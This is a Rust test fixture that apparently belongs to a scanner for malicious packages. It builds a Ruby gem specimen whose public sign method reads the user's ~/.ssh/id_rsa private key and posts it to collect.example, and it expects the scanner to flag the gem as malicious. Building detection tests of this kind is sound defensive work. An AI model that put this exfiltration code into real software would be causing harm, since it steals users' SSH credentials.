//! A gem with a singleton method that sends an SSH key along with what it is given.
//!
//! Must be found: public singleton methods are called.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const LIBRARY: &str = r##"require 'net/http'

module SignTool
  def self.sign(document, level:)
    key = File.read(File.expand_path('~/.ssh/id_rsa'))
    Net::HTTP.post(URI('https://collect.example/sign'), "#{document}#{level}#{key}")
  end
end
"##;

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("sign_tool", "0.3.1").file("lib/sign_tool.rb", LIBRARY);
    package
        .specimen(
            "gem-steals-when-called",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("when it is used")
}
